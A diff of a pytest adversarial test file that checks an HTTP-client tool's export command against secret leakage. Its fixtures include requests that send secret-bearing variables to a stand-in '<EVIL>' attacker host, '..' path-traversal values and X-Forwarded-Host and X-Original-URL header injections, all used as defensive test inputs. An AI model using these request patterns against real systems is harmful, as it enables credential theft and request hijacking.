@@ -2,10 +2,12 @@
 
 import json
 import re
+from collections.abc import Iterable
+from itertools import product
 
 import pytest
 
-from tests.adversarial.machine import READ, SAVED, Machine
+from tests.adversarial.machine import INNOCENT, READ, SAVED, Machine, left_out
 from tests.adversarial.test_exports import REQUEST_FORMATS, SECRETS
 from tests.adversarial.test_requests import append, be_behind_a_gate, quoted
 from weda_tui.cli.export import CODE
@@ -13,10 +15,13 @@ from weda_tui.core.interchange.export_format import LOAD_FORMATS
 
 KEYS = "{{SECRET_KEY}} {{PASSWORD}} {{access_token}}"
 PLACES = [(), ("--env", "hq")]
+EXPORTS = [*product(REQUEST_FORMATS, PLACES)]
 NAMES = [
-    *("v", "WeDa.EnvId", "weda.envid", "USERNAME", "secret_id", "Basic_Auth", "$uuid", "$guid"),
-    *(" v ", " v", "v ", "\tv", "\u00a0v", "v\n", "\u2003v", "", "v`", "{v", "access_token_expiry"),
+    *("v", "WeDa.EnvId", "USERNAME", "secret_id", "Basic_Auth", "access_token_expiry", "", "b`"),
+    *(" c ", " d", "e ", "\tf", "\u00a0g", "h\n", "\u2003i", "{j"),
 ]
+"""Names that differ in more than spaces and case."""
+MADE = ["$uuid", "$guid"]
 
 
 def written_names(data: bytes) -> set[str]:
@@ -31,41 +36,56 @@ def written_names(data: bytes) -> set[str]:
     return found | {json.loads(match[1]) for match in matches if match}
 
 
-def define(machine: Machine, place: str, lines: str, url: str, more: str = "") -> None:
-    """Write a request with variables in one of the places that a workspace has for variables."""
+def define(
+    machine: Machine, place: str, lines: str, texts: Iterable[str], beside: str = INNOCENT
+) -> list[str]:
+    """Write requests with variables in one of the places that a workspace has for variables."""
     variables = f"[variables]\n{lines}"
-    own = variables if place == "request" else ""
-    machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = {quoted(url)}\n{more}{own}')
     if place == "folder":
         machine.write("collections/lure/folder.toml", variables)
     if place == "environment":
         append(machine, "environments/hq.toml", variables)
+    return machine.lay((f"{text}{variables * (place == 'request')}" for text in texts), beside)
+
+
+def elsewhere(name: str) -> str:
+    """Return the text of a request that sends a variable to the attacker."""
+    return f'method = "POST"\nurl = "<EVIL>/x"\nbody = {quoted("A{{" + name + "}}B")}\n'
 
 
 @pytest.mark.parametrize("place", ["request", "folder", "environment"])
-@pytest.mark.parametrize("name", NAMES)
-def test_no_variable_with_secrets_goes_elsewhere(machine: Machine, name: str, place: str) -> None:
-    body = f"body = {quoted('A{{' + name + '}}B')}\n"
-    define(machine, place, f"{quoted(name)} = {quoted(KEYS)}\n", "<EVIL>/x", body)
-    for format_ in REQUEST_FORMATS:
-        for where in PLACES:
-            ran = machine.run("export", "lure/zz", "--format", format_, *where, "--lang", "en")
-            said = f"{format_} {where}: {ran.text}{ran.talk}"
-            if name.startswith("$"):
-                assert [each for each in SECRETS if each in ran.text] == [], said
-                is_left_out = ran.status == 2
-                assert is_left_out or f"variables {name}" in ran.talk or place == "environment"
-            else:
-                assert (ran.status, ran.data) == (2, b""), said
+@pytest.mark.parametrize("names", [NAMES, ["weda.envid"]], ids=["all", "another-case"])
+def test_no_variable_with_secrets_goes_elsewhere(
+    machine: Machine, names: list[str], place: str
+) -> None:
+    lines = "".join(f"{quoted(name)} = {quoted(KEYS)}\n" for name in names)
+    files = define(machine, place, lines, map(elsewhere, names))
+    for format_, where in EXPORTS:
+        ran = machine.run("export", "lure", "--format", format_, *where, "--lang", "en")
+        said = f"{format_} {where}: {ran.text}{ran.talk}"
+        assert (ran.status, machine.evil.place in ran.text) == (0, False), said
+        assert left_out(ran).keys() == {*files}, said
+
+
+@pytest.mark.parametrize("place", ["request", "folder", "environment"])
+def test_no_variable_with_a_name_of_a_made_value_has_a_secret(machine: Machine, place: str) -> None:
+    lines = "".join(f"{quoted(name)} = {quoted(KEYS)}\n" for name in MADE)
+    define(machine, place, lines, map(elsewhere, MADE), "")
+    for format_, where in EXPORTS:
+        ran = machine.run("export", "lure", "--format", format_, *where, "--lang", "en")
+        said = f"{format_} {where}: {ran.text}{ran.talk}"
+        assert [each for each in SECRETS if each in ran.text] == [], said
+        is_named = all(f"variables {name}" in ran.talk for name in MADE)
+        assert ran.status == 2 or is_named or place == "environment", said
 
 
 @pytest.mark.parametrize("place", ["request", "folder", "environment", "capture"])
 def test_a_collection_writes_plain_names_alone(machine: Machine, place: str) -> None:
-    lines = "".join(f"{quoted(name)} = {quoted('$.a')}\n" for name in NAMES)
+    lines = "".join(f"{quoted(name)} = {quoted('$.a')}\n" for name in (*NAMES, *MADE, "weda.envid"))
     if place == "capture":
         machine.write("collections/lure/zz.toml", f"{SAVED}[capture]\n{lines}")
     else:
-        define(machine, place, lines, "{{vars.host}}/x")
+        define(machine, place, lines, ['method = "POST"\nurl = "{{vars.host}}/x"\n'])
     file = machine.folder / "c.json"
     words = ("export", "lure", "--format", "postman", "--env", "hq", "-o", str(file))
     ran = machine.run(*words, "--lang", "en")
@@ -78,37 +98,39 @@ def test_a_collection_writes_plain_names_alone(machine: Machine, place: str) -> 
     assert "$.a" not in {values[name] for name in own if name in values}
 
 
-@pytest.mark.parametrize(
-    "name", ["v", "WeDa.EnvId", "USERNAME", "SECRET_ID", "basic_auth", "$uuid"]
-)
-@pytest.mark.parametrize("format_", REQUEST_FORMATS)
-def test_no_variable_leads_out_of_the_prefix(machine: Machine, name: str, format_: str) -> None:
+def test_no_variable_leads_out_of_the_prefix(machine: Machine) -> None:
     be_behind_a_gate(machine)
-    url = f"{{{{vars.host}}}}/{{{{{name}}}}}/other-tenant/x"
-    define(machine, "request", f'"{name}" = ".."\n"$guid" = ".."\n', url)
-    for where in PLACES:
-        ran = machine.run("export", "lure/zz", "--format", format_, *where, "--lang", "en")
-        assert "/../" not in ran.text
-        assert 'guid"' not in ran.text
-        assert name == "$uuid" or f"{{{{{name}}}}}/other" not in ran.text
+    names = ("v", "WeDa.EnvId", "USERNAME", "SECRET_ID", "basic_auth", "$uuid")
+    define(
+        machine,
+        "request",
+        "".join(f'"{name}" = ".."\n' for name in (*names, "$guid")),
+        (f'method = "POST"\nurl = "{{{{vars.host}}}}/{{{{{name}}}}}/other/x"\n' for name in names),
+    )
+    for format_, where in EXPORTS:
+        ran = machine.run("export", "lure", "--format", format_, *where, "--lang", "en")
+        assert (ran.status, "/innocent" in ran.text) == (0, True), ran.talk
+        assert "/../" not in ran.text, format_
+        assert 'guid"' not in ran.text, format_
+        for name in names[:-1]:
+            assert f"{{{{{name}}}}}/other" not in ran.text, format_
 
 
-@pytest.mark.parametrize("format_", REQUEST_FORMATS)
 @pytest.mark.parametrize("lines", ["", '[capture]\np = "$.p"\n'])
 def test_no_open_and_no_captured_value_is_in_a_path_below_a_prefix(
-    machine: Machine, format_: str, lines: str
+    machine: Machine, lines: str
 ) -> None:
     be_behind_a_gate(machine)
-    machine.write("collections/lure/a.toml", f'method = "GET"\nurl = "<EVIL>/x"\n{lines}')
-    machine.write(
-        "collections/lure/zz.toml", 'method = "POST"\nurl = "{{vars.host}}/{{p}}/other-tenant"\n'
+    machine.lay(
+        ['method = "POST"\nurl = "{{vars.host}}/{{p}}/other-tenant"\n'],
+        f'method = "GET"\nurl = "<EVIL>/x"\n{lines}',
     )
-    for where in PLACES:
+    for format_, where in EXPORTS:
         ran = machine.run("export", "lure", "--format", format_, *where, "--lang", "en")
         is_load = format_ in LOAD_FORMATS  # load tests have no request to another host
         assert ran.status == (2 if is_load else 0), ran.talk
-        assert "other-tenant" not in ran.text
-        assert is_load or "zz was not exported" in ran.talk
+        assert "other-tenant" not in ran.text, format_
+        assert is_load or "z0" in left_out(ran), format_
 
 
 def test_a_value_that_another_place_sets_is_in_no_host(machine: Machine) -> None:
@@ -130,30 +152,22 @@ def test_a_value_that_another_place_sets_is_in_no_host(machine: Machine) -> None
     assert "zz-path" not in ran.text
 
 
-@pytest.mark.parametrize("format_", REQUEST_FORMATS)
-@pytest.mark.parametrize(
-    "query",
-    [
+def test_no_secret_is_in_an_address(machine: Machine) -> None:
+    """Programs that run an export print its URLs."""
+    queries = (
         *("k={{SECRET_KEY}}", "{{access_token}}", "a=1&t={{PASSWORD}}", "k={{basic_auth}}"),
         *("k={{v}}", "k={{my_password}}", "k={{密码}}", "k={{t}}"),
-    ],
-)
-def test_no_secret_is_in_an_address(machine: Machine, format_: str, query: str) -> None:
-    """Programs that run an export print its URLs."""
-    machine.write("collections/lure/a.toml", f'{SAVED}[capture]\nt = "$.access_token"\n')
-    machine.write(
-        "collections/lure/zz.toml",
-        f'method = "GET"\nurl = "{{{{vars.host}}}}/zz-path?{query}"\n'
-        '[variables]\nv = "{{SECRET_KEY}}"\n',
     )
-    for where in PLACES:
+    urls = (f'method = "GET"\nurl = "{{{{vars.host}}}}/zz-path?{query}"\n' for query in queries)
+    taking = f'{SAVED}[capture]\nt = "$.access_token"\n'
+    files = define(machine, "request", 'v = "{{SECRET_KEY}}"\n', urls, taking)
+    for format_, where in EXPORTS:
         ran = machine.run("export", "lure", "--format", format_, *where, "--lang", "en")
         assert ran.status == 0, ran.talk
-        assert "zz-path" not in ran.text
-        assert "zz was not exported" in ran.talk
+        assert "zz-path" not in ran.text, format_
+        assert left_out(ran).keys() == {*files}, format_
 
 
-@pytest.mark.parametrize("format_", sorted({*CODE} - {"http", "har"}))
 @pytest.mark.parametrize(
     ("one", "other"),
     [
@@ -165,20 +179,19 @@ def test_no_secret_is_in_an_address(machine: Machine, format_: str, query: str) 
         ("a_2", "a.2"),
     ],
 )
-def test_two_variables_of_a_program_are_two(
-    machine: Machine, format_: str, one: str, other: str
-) -> None:
+def test_two_variables_of_a_program_are_two(machine: Machine, one: str, other: str) -> None:
     machine.write(
         "collections/lure/zz.toml",
         'method = "POST"\nurl = "{{vars.host}}/x"\n'
         f'body = "first {{{{{one}}}}} second {{{{{other}}}}} third {{{{{one}}}}}"\n',
     )
-    ran = machine.run("export", "lure/zz", "--format", format_, "--env", "hq", "--lang", "en")
-    assert ran.status == 0, ran.talk
-    (line,) = (each for each in ran.text.splitlines() if "first " in each and "third " in each)
-    first, second, third = re.findall(r"WEDA_VAR_\w+", line)
-    assert first == third
-    assert first != second
+    for format_ in {*CODE} - {"http", "har"}:
+        ran = machine.run("export", "lure/zz", "--format", format_, "--env", "hq", "--lang", "en")
+        assert ran.status == 0, ran.talk
+        (line,) = (each for each in ran.text.splitlines() if "first " in each and "third " in each)
+        first, second, third = re.findall(r"WEDA_VAR_\w+", line)
+        assert first == third, format_
+        assert first != second, format_
 
 
 EXPECTED = [
@@ -187,21 +200,20 @@ EXPECTED = [
 ]
 
 
-@pytest.mark.parametrize("operator", ["equals", "contains", "matches"])
-@pytest.mark.parametrize("expected", EXPECTED)
-def test_no_expectation_names_a_secret(machine: Machine, operator: str, expected: str) -> None:
-    machine.write(
-        "collections/lure/a.toml", f'{SAVED}[variables]\ny = "{{"\n[capture]\nt = "$.a"\n'
-    )
-    machine.write(
-        "collections/lure/zz.toml",
-        f'{SAVED}[variables]\nv = "{{{{SECRET_KEY}}}}"\nw = "{{{{v}}}}"\na = "{{{{SECRET"\n'
-        f'b = "_KEY}}}}"\n[[assert]]\non = "status"\n{operator} = {quoted(f"[z-{expected}]")}\n',
+def test_no_expectation_names_a_secret(machine: Machine) -> None:
+    files = machine.lay(
+        (
+            f'{SAVED}[variables]\nv = "{{{{SECRET_KEY}}}}"\nw = "{{{{v}}}}"\na = "{{{{SECRET"\n'
+            f'b = "_KEY}}}}"\n[[assert]]\non = "status"\n{operator} = {quoted(f"[z-{text}]")}\n'
+            for operator, text in product(("equals", "contains", "matches"), EXPECTED)
+        ),
+        f'{SAVED}[variables]\ny = "{{"\n[capture]\nt = "$.a"\n',
     )
     ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
     assert ran.status == 0, ran.talk
     assert "[z-" not in ran.text
-    assert "assert status" in ran.talk
+    for file in files:
+        assert re.search(rf"\b{file}\b.*assert status", ran.talk), ran.talk
 
 
 SIGN_IN = """method = "POST"
@@ -268,91 +280,95 @@ MISPLACED = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("place", ["body", "header"])
-@pytest.mark.parametrize(("url", "text", "first"), MISPLACED.values(), ids=MISPLACED)
-def test_no_secret_is_in_a_body_or_header(
-    machine: Machine, url: str, text: str, first: str, place: str
+def misplace(url: str, text: str) -> tuple[str, str]:
+    """Return the texts of two requests with a text in the body, and in a header."""
+    asked, header = f'method = "POST"\nurl = "{url}"\n', quoted(f"X-Request-Id: {text}")
+    return f"{asked}body = {quoted(text)}\n", f"{asked}headers = [{header}]\n"
+
+
+CARRIED = {name: each for name, each in MISPLACED.items() if each[-1]}
+
+
+@pytest.mark.parametrize(("url", "text", "first"), CARRIED.values(), ids=CARRIED)
+def test_no_secret_of_another_request_is_in_a_body_or_header(
+    machine: Machine, url: str, text: str, first: str
 ) -> None:
-    """A server may store both; Postman keeps variables and captures from request to request."""
+    """Postman keeps variables and captures from request to request."""
     asks = TOKEN_CALLS["token"] if "access_token" in first else SAVED
-    machine.write("collections/lure/a.toml", f"{asks}{first}")
-    header = quoted(f"X-Request-Id: {text}")
-    lines = f"body = {quoted(text)}\n" if place == "body" else f"headers = [{header}]\n"
-    machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = "{url}"\n{lines}')
-    formats = ["postman"] if first else REQUEST_FORMATS
-    for format_ in formats:
+    files = machine.lay(misplace(url, text), f"{asks}{first}")
+    ran = machine.run("export", "lure", "--format", "postman", "--env", "hq", "--lang", "en")
+    assert ran.status == 0, ran.talk
+    assert left_out(ran).keys() == {*files}
+    assert text not in ran.text
+
+
+def test_no_secret_is_in_a_body_or_header(machine: Machine) -> None:
+    """A server may store both."""
+    own = [(url, text) for url, text, first in MISPLACED.values() if not first]
+    files = machine.lay((each for pair in own for each in misplace(*pair)), SAVED)
+    for format_ in REQUEST_FORMATS:
         ran = machine.run("export", "lure", "--format", format_, "--env", "hq", "--lang", "en")
         assert ran.status == 0, ran.talk
-        assert "zz was not exported" in ran.talk, format_
-        assert text not in ran.text
+        assert left_out(ran).keys() == {*files}, format_
+        assert not any(text in ran.text for _, text in own), format_
 
 
-PLACED = {
-    "revoke": (REVOKE, '{"token": "{{access_token}}"}', ""),
-    "sign-in": (
-        "{{vars.host}}/auth/v1/signin",
-        '{"username": "{{USERNAME}}", "password": "{{PASSWORD}}"}',
-        "",
-    ),
-    "own": (ANY, '{"password": "{{my_password}}", "id": "{{id}}"}', '[capture]\nid = "$.id"\n'),
-    "json": (ANY, '{"a": {{v}}}', '[variables]\nv = \'{"b": {"c": 1}}\'\n'),
-}
+PLACED = (
+    (REVOKE, '{"token": "{{access_token}}"}'),
+    ("{{vars.host}}/auth/v1/signin", '{"username": "{{USERNAME}}", "password": "{{PASSWORD}}"}'),
+    (ANY, '{"password": "{{my_password}}", "id": "{{id}}"}'),
+    (ANY, '{"a": {{v}}}'),
+)
 
 
-@pytest.mark.parametrize(("url", "body", "first"), PLACED.values(), ids=PLACED)
-def test_what_a_body_may_hold_is_exported(
-    machine: Machine, url: str, body: str, first: str
-) -> None:
-    machine.write("collections/lure/a.toml", f"{SAVED}{first}")
-    machine.write(
-        "collections/lure/zz.toml", f'method = "POST"\nurl = "{url}"\nbody = {quoted(body)}\n'
+def test_what_a_body_may_hold_is_exported(machine: Machine) -> None:
+    machine.lay(
+        (f'method = "POST"\nurl = "{url}"\nbody = {quoted(body)}\n' for url, body in PLACED),
+        f'{SAVED}[capture]\nid = "$.id"\n[variables]\nv = \'{{"b": {{"c": 1}}}}\'\n',
     )
     for format_ in REQUEST_FORMATS:
         ran = machine.run("export", "lure", "--format", format_, "--env", "hq", "--lang", "en")
-        assert (ran.status, "zz was not" in ran.talk) == (0, False), ran.talk
+        assert (ran.status, left_out(ran)) == (0, {}), ran.talk
 
 
-@pytest.mark.parametrize(
-    "body",
-    [
+def test_no_export_puts_a_secret_where_a_file_has_none(machine: Machine) -> None:
+    bodies = (
         '{"data": {"accessToken": "x"}}',
         *("access_token=x&y=1", "<a><access_token>hello</access_token></a>", "access_token: hello"),
         *('{"basic_auth": "x1", "SECRET_KEY": "x2"}', '{"user_access_token": "x"}'),
-    ],
-)
-def test_no_export_puts_a_secret_where_a_file_has_none(machine: Machine, body: str) -> None:
-    machine.write(
-        "collections/lure/zz.toml",
-        f'method = "POST"\nurl = "{ANY}"\nbody = {quoted(body)}\nheaders = ["Access-Token: x"]\n',
     )
+    first = f'method = "POST"\nurl = "{ANY}"\nheaders = ["Access-Token: x"]\n'
+    machine.lay(f"{first}body = {quoted(body)}\n" for body in bodies)
     for format_ in ("http", "har"):
         ran = machine.run("export", "lure", "--format", format_, "--env", "hq", "--lang", "en")
         assert ran.status == 0, ran.talk
         names = re.findall(
             r"\{\{(access_token|user_access_token|basic_auth|SECRET_KEY)\}\}", ran.text
         )
-        assert names == ["access_token"]  # of the Authorization header
+        assert names == ["access_token"] * len(bodies)  # of the Authorization headers
 
 
-LED = {
-    "host": ("{{vars.host}}{{x}}zz-path", "", "/"),
-    "prefix": ("{{vars.host}}/{{x}}/zz-path", "", "a"),
-    "header": ("{{vars.host}}/zz-path", 'headers = ["X-Forwarded-Host: {{x}}"]\n', "<HOME-PLACE>"),
-    "path-header": ("{{vars.host}}/zz-path", 'headers = ["X-Original-URL: {{x}}"]\n', "/weda-a"),
-}
+LED = (
+    ("{{vars.host}}{{x0}}zz-path", "", "/"),
+    ("{{vars.host}}/{{x1}}/zz-path", "", "a"),
+    ("{{vars.host}}/zz-path", 'headers = ["X-Forwarded-Host: {{x2}}"]\n', "<HOME-PLACE>"),
+    ("{{vars.host}}/zz-path", 'headers = ["X-Original-URL: {{x3}}"]\n', "/weda-a"),
+)
 
 
-@pytest.mark.parametrize("format_", sorted(LOAD_FORMATS))
-@pytest.mark.parametrize(("url", "headers", "value"), LED.values(), ids=LED)
-def test_no_variable_hides_a_captured_value_that_leads_away(
-    machine: Machine, url: str, headers: str, value: str, format_: str
-) -> None:
+def test_no_variable_hides_a_captured_value_that_leads_away(machine: Machine) -> None:
     """A load test uses the captured text where the file has a harmless value."""
     be_behind_a_gate(machine)
-    machine.write("collections/lure/a.toml", f'{SAVED}[capture]\nx = "$.x"\n')
-    define(machine, "request", f"x = {quoted(value)}\n", url, headers)
-    for where in PLACES:
+    captures = "".join(f'x{number} = "$.x"\n' for number in range(len(LED)))
+    files = define(
+        machine,
+        "request",
+        "".join(f"x{number} = {quoted(value)}\n" for number, (*_, value) in enumerate(LED)),
+        (f'method = "POST"\nurl = "{url}"\n{headers}' for url, headers, _ in LED),
+        f"{SAVED}[capture]\n{captures}",
+    )
+    for format_, where in product(LOAD_FORMATS, PLACES):
         ran = machine.run("export", "lure", "--format", format_, *where, "--lang", "en")
         assert ran.status == 0, ran.talk
-        assert "zz-path" not in ran.text
-        assert "zz was not exported" in ran.talk
+        assert "zz-path" not in ran.text, format_
+        assert left_out(ran).keys() == {*files}, format_
